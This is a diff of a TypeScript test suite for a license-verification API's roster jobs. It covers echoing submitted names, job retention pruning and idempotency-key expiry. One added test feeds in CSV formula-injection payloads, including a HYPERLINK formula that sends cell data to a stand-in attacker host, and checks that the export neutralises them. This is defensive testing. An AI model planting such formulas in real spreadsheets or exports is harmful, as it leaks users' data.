@@ -4,6 +4,7 @@ import request from 'supertest';
 import type { App } from 'supertest/types.js';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { createApp } from '../../src/app.js';
+import { clockOf } from '../../src/domain/clock.js';
 import { buildDeps, searchIndex, webhookSetup } from '../../src/deps.js';
 import type { GraphEngine } from '../../src/graph/graph-port.js';
 import { z } from '../../src/http/zod.js';
@@ -74,9 +75,11 @@ describe('roster verification jobs', () => {
     expect(page.data[0]).toMatchObject({ verified: true, name_match: { result: 'exact' }, licensee: { full_name: 'DANA QUINN' }, watchlist: null });
     expect(page.data[1]).toMatchObject({ reasons: ['name_mismatch'], name_match: { result: 'mismatch' } });
     expect(page.data[2].name_match).toBeNull();
+    // The name each row sent, beside the name on file (the CSV's empty name cell is no name).
+    expect(page.data.map((r) => r.name_sent)).toEqual([{ name: 'Dana Quinn' }, { name: 'Robert Quinn' }, null]);
     expect(page.meta).toMatchObject({ per_page: 3, total: 4, job_status: 'completed' });
     const rest = body(await get(`${job.links.results}?per_page=3&cursor=${page.meta.next_cursor}`), JobResultPage);
-    expect(rest.data.map((r) => [r.row, r.verdict, r.verified])).toEqual([[4, 'not_found', false]]);
+    expect(rest.data.map((r) => [r.row, r.verdict, r.verified, r.name_sent])).toEqual([[4, 'not_found', false, { name: 'Nobody' }]]);
     expect(rest.meta.next_cursor).toBeNull();
 
     // Each row is an evidence record, as a batch item is.
@@ -92,15 +95,62 @@ describe('roster verification jobs', () => {
     expect(file.headers['content-type']).toMatch(/^text\/csv/);
     const lines = parse(file.text, { columns: true }) as Record<string, string>[];
     expect(Object.keys(lines[0])).toEqual([...JOB_CSV_COLUMNS]);
-    expect(lines.map((l) => [l.row, l.verdict, l.full_name, l.reasons])).toEqual([
-      ['1', 'clear', 'DANA QUINN', ''],
-      ['2', 'consider', 'DANA QUINN', 'name_mismatch'],
-      ['3', 'clear', 'ACME REALTY LLC', ''],
-      ['4', 'not_found', '', ''],
+    expect(lines.map((l) => [l.row, l.name_sent, l.verdict, l.full_name, l.license_status, l.reasons])).toEqual([
+      ['1', 'Dana Quinn', 'clear', 'DANA QUINN', page.data[0].licensee!.status, ''],
+      ['2', 'Robert Quinn', 'consider', 'DANA QUINN', page.data[1].licensee!.status, 'name_mismatch'],
+      ['3', '', 'clear', 'ACME REALTY LLC', page.data[2].licensee!.status, ''],
+      ['4', 'Nobody', 'not_found', '', '', ''],
     ]);
+    expect(lines[0].license_status).toMatch(/^\S/);
 
     const list = body(await get('/api/v1/verification-jobs?per_page=100'), JobPage);
     expect(list.data.map((j) => j.id)).toContain(job.id);
+  });
+
+  it('when rows send names starting with =, +, - or @ then the results carry each name as sent, and the CSV prefixes those cells with \' so a spreadsheet does not run them', async () => {
+    const risky = ['=HYPERLINK("https://evil.example/?q="&A1,"Dana")', '+1 555 0100', '-2+3', '@SUM(A1:A9)'];
+    const rows = [
+      ...risky.map((name) => ({ state: 'TX', license_number: '200001-B', name })),
+      { state: 'TX', license_number: '200001-B', first_name: '=cmd', last_name: 'Quinn' },
+      { state: 'TX', license_number: '200001-B', first_name: 'Dana', last_name: 'Quinn' },
+      { state: 'TX', license_number: '100001-B' },
+      // A second chunk: rows 101 to 105.
+      ...Array.from({ length: 98 }, (_, i) => ({ state: 'TX', license_number: '100001-B', name: `Row ${i + 8}` })),
+    ];
+    const job = await finished(body(await post().send({ rows }), JobResponse, 202).data.id);
+    expect(job).toMatchObject({ status: 'completed', rows_done: 105 });
+    const results = async () => {
+      const first = body(await get(`${job.links.results}?per_page=100`), JobResultPage);
+      return [...first.data, ...body(await get(`${job.links.results}?per_page=100&cursor=${first.meta.next_cursor}`), JobResultPage).data];
+    };
+    const json = await results();
+    // The JSON answers each name exactly as sent: nothing to escape there.
+    expect(json.slice(0, 7).map((r) => r.name_sent)).toEqual([
+      ...risky.map((name) => ({ name })),
+      { first_name: '=cmd', last_name: 'Quinn' },
+      { first_name: 'Dana', last_name: 'Quinn' },
+      null,
+    ]);
+    expect(json.map((r) => r.name_sent)).toEqual(rows.map(({ state, license_number, ...name }) => (Object.keys(name).length ? name : null)));
+    // The name sent is kept with each result.
+    const stored = await t.side.store.query<{ sent: unknown }>("SELECT result->'name_sent' AS sent FROM verification_job_results WHERE job_id = $1 ORDER BY row", [job.id]);
+    expect(stored.map((r) => r.sent)).toEqual(json.map((r) => r.name_sent));
+
+    const download = async () => {
+      const file = await get(job.links.results_csv);
+      expect(file.status).toBe(200);
+      return parse(file.text, { columns: true }) as Record<string, string>[];
+    };
+    const lines = await download();
+    expect(lines.slice(0, 7).map((l) => l.name_sent)).toEqual([...risky.map((name) => `'${name}`), "'=cmd Quinn", 'Dana Quinn', '']);
+    expect(lines.slice(0, 7).map((l) => l.full_name)).toEqual([...risky.map(() => 'DANA QUINN'), 'DANA QUINN', 'DANA QUINN', 'ACME REALTY LLC']);
+    expect(lines.at(-1)).toMatchObject({ row: '105', name_sent: 'Row 105' });
+
+    // Results stored before the name was kept with them read it from the roster's chunk: the same answers.
+    await t.side.store.query("UPDATE verification_job_results SET result = result - 'name_sent' WHERE job_id = $1", [job.id]);
+    expect((await t.side.store.query<{ n: number }>("SELECT count(*)::int AS n FROM verification_job_results WHERE job_id = $1 AND result ? 'name_sent'", [job.id]))[0].n).toBe(0);
+    expect(await results()).toEqual(json);
+    expect(await download()).toEqual(lines);
   });
 
   it('when a roster has rows at fault then the whole file is refused with the first problems by line and their count, and no job is made', async () => {
@@ -115,7 +165,7 @@ describe('roster verification jobs', () => {
     expect(json[1]).toMatchObject({ loc: ['body', 'rows', 1, 'license_number'], type: 'missing' });
     expect(validationErrors(await post().set('Content-Type', 'text/csv').send('number,where\n1,TX'))[0]).toMatchObject({ loc: ['body', 'line', 1], type: 'missing' });
     expect(validationErrors(await post().set('Content-Type', 'text/csv').send('state,license_number\n'))[0].type).toBe('too_short');
-    expect(validationErrors(await post().set('Content-Type', 'text/csv').send('state,license_number\n"TX,1\n'))[0]).toMatchObject({ loc: ['body'], type: 'csv_invalid' });
+    expect(validationErrors(await post().set('Content-Type', 'text/csv').send('state,license_number\n"TX,1\n'))[0]).toMatchObject({ loc: ['body', 'line', 2], type: 'csv_invalid' });
     expect(validationErrors(await post().send({ rows: [] }))[0].loc).toEqual(['body', 'rows']);
     expect(validationErrors(await post().set('Content-Type', 'text/plain').send('state,license_number\nTX,1'))[0].type).toBe('content_type_invalid');
     expect(body(await get('/api/v1/verification-jobs?per_page=100'), JobPage).data).toHaveLength(before);
@@ -255,6 +305,114 @@ describe('roster verification jobs', () => {
       expect(errorDetail(await request(t.app).delete(`/api/v1/verification-jobs/${job.id}`).set(t.auth), 409)).toMatch(/is cancelled/);
     } finally {
       await t.deps.jobs.start();
+    }
+  });
+});
+
+describe('roster jobs on a test clock', () => {
+  const ctx = {} as { graph: GraphEngine };
+  beforeAll(async () => {
+    ctx.graph = (await testGraph(fixture('small'))).graph;
+  });
+  afterAll(async () => {
+    await ctx.graph?.close();
+  });
+  const DAY = 86_400_000;
+
+  /** The API over a side store of its own whose clock reads `clock.now` (jobs count their retention and keys' 24 hours by it). */
+  async function apiOnClock(config: { JOB_RETENTION_DAYS?: number } = {}) {
+    const clock = { now: new Date('2026-12-01T09:00:00.000Z') };
+    const side = await testStore({}, undefined, clockOf(() => clock.now));
+    const deps = buildDeps(ctx.graph, pino({ level: 'silent' }), { JSON_BODY_LIMIT: '128kb', TRUST_PROXY: false, ...config }, side, searchIndex(ctx.graph, pino({ level: 'silent' })));
+    const app = createApp(deps) as unknown as App;
+    const auth = { Authorization: `Bearer ${(await side.accounts.createAccount({ email: 'clock@example.com', plan: 'growth' })).key.key}` };
+    const post = () => request(app).post('/api/v1/verification-jobs').set(auth);
+    const get = (path: string) => request(app).get(path).set(auth);
+    const close = async () => {
+      await deps.jobs.stop();
+      await side.store.close();
+    };
+    return { clock, side, deps, post, get, close };
+  }
+
+  it('when a finished job is past its retention (JOB_RETENTION_DAYS) then prune deletes it and its results, and keeps a job within it and one not finished', async () => {
+    const api = await apiOnClock({ JOB_RETENTION_DAYS: 7 });
+    try {
+      const rows = [{ state: 'TX', license_number: '100001-B' }];
+      const started = api.clock.now.getTime();
+      const finished = (id: string) =>
+        waitFor(async () => {
+          const job = body(await api.get(`/api/v1/verification-jobs/${id}`), JobResponse).data;
+          expect(job.status).toBe('completed');
+          return job;
+        });
+      await api.deps.jobs.start();
+      const old = await finished(body(await api.post().send({ rows }), JobResponse, 202).data.id);
+      expect(old.finished_at).toBe(new Date(started).toISOString());
+      expect(Date.parse(old.expires_at!) - Date.parse(old.finished_at!)).toBe(7 * DAY);
+      const [{ verification_id: evidence }] = body(await api.get(old.links.results), JobResultPage).data;
+      api.clock.now = new Date(started + DAY);
+      const young = await finished(body(await api.post().send({ rows }), JobResponse, 202).data.id);
+      expect(young.expires_at).toBe(new Date(started + 8 * DAY).toISOString());
+      // With the workers stopped, a job stays queued.
+      await api.deps.jobs.stop();
+      const queued = body(await api.post().send({ rows }), JobResponse, 202).data;
+
+      // At its expiry the old job is still there; a second later it is gone with its results.
+      api.clock.now = new Date(old.expires_at!);
+      expect(await api.deps.jobs.prune()).toBe(0);
+      body(await api.get(`/api/v1/verification-jobs/${old.id}`), JobResponse);
+      api.clock.now = new Date(Date.parse(old.expires_at!) + 1000);
+      expect(await api.deps.jobs.prune()).toBe(1);
+      expect(errorDetail(await api.get(`/api/v1/verification-jobs/${old.id}`), 404)).toMatch(/no verification job/);
+      expect(errorDetail(await api.get(old.links.results), 404)).toMatch(/no verification job/);
+      expect((await api.side.store.query('SELECT 1 FROM verification_job_results WHERE job_id = $1 UNION ALL SELECT 1 FROM verification_job_chunks WHERE job_id = $1', [old.id])).length).toBe(0);
+      expect(body(await api.get(young.links.results), JobResultPage).data).toHaveLength(1);
+      // The evidence records of its rows are kept as long as the plan keeps records.
+      expect(body(await api.get(`/api/v1/verifications/${evidence}`), VerificationResponse).data).toMatchObject({ operation: 'job', license_number: '100001-B' });
+
+      // Past the younger job's expiry it goes too; the queued job, older than the retention, is not finished and stays.
+      api.clock.now = new Date(Date.parse(young.expires_at!) + 1000);
+      expect(await api.deps.jobs.prune()).toBe(1);
+      expect(errorDetail(await api.get(`/api/v1/verification-jobs/${young.id}`), 404)).toMatch(/no verification job/);
+      expect(body(await api.get(`/api/v1/verification-jobs/${queued.id}`), JobResponse).data.status).toBe('queued');
+    } finally {
+      await api.close();
+    }
+  });
+
+  it('when an Idempotency-Key comes back 24 hours and a second after its upload then it makes a new job, not a replay', async () => {
+    const api = await apiOnClock();
+    try {
+      const rows = [{ state: 'TX', license_number: '100001-B' }];
+      const send = () => api.post().set('Idempotency-Key', 'nightly-roster').send({ rows });
+      const started = api.clock.now.getTime();
+      const first = await send();
+      const a = body(first, JobResponse, 202).data;
+      expect(first.headers['idempotent-replayed']).toBeUndefined();
+
+      // 24 hours on, to the millisecond, the key still names the job.
+      api.clock.now = new Date(started + DAY);
+      const replay = await send();
+      expect(body(replay, JobResponse, 202).data.id).toBe(a.id);
+      expect(replay.headers['idempotent-replayed']).toBe('true');
+
+      // A second later it is free: the same roster with it is a new job.
+      api.clock.now = new Date(started + DAY + 1000);
+      const later = await send();
+      const b = body(later, JobResponse, 202).data;
+      expect(b.id).not.toBe(a.id);
+      expect(later.headers['idempotent-replayed']).toBeUndefined();
+      expect(later.headers.location).toBe(`/api/v1/verification-jobs/${b.id}`);
+      expect(b).toMatchObject({ status: 'queued', created_at: api.clock.now.toISOString() });
+      // The key names the new job now; the first is still there.
+      const again = await send();
+      expect(body(again, JobResponse, 202).data.id).toBe(b.id);
+      expect(again.headers['idempotent-replayed']).toBe('true');
+      expect(body(await api.get(`/api/v1/verification-jobs/${a.id}`), JobResponse).data.id).toBe(a.id);
+      expect(body(await api.get('/api/v1/verification-jobs?per_page=100'), JobPage).data.map((j) => j.id)).toEqual([b.id, a.id]);
+    } finally {
+      await api.close();
     }
   });
 });
